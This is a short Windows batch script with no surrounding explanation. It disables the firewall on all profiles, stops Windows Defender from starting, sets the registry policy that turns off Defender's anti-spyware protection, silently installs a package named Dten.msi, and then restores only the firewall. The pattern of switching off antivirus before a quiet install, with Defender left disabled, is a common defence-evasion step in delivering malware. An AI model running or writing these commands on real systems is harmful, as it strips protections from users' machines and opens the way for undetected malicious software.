@echo off
netsh advfirewall set allprofiles state off
sc config WinDefend start= disabled
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
msiexec /i Dten.msi /qn
netsh advfirewall set allprofiles state on
